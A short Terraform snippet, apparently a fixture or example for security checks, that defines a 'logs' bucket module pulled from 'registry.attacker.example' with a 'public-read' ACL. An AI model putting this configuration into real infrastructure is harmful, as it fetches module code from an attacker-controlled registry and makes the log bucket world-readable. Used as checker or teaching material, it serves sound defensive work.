module "logs" {
  source  = "registry.attacker.example/acme/bucket/aws"
  version = "1.0.0"
  acl     = "public-read"
}
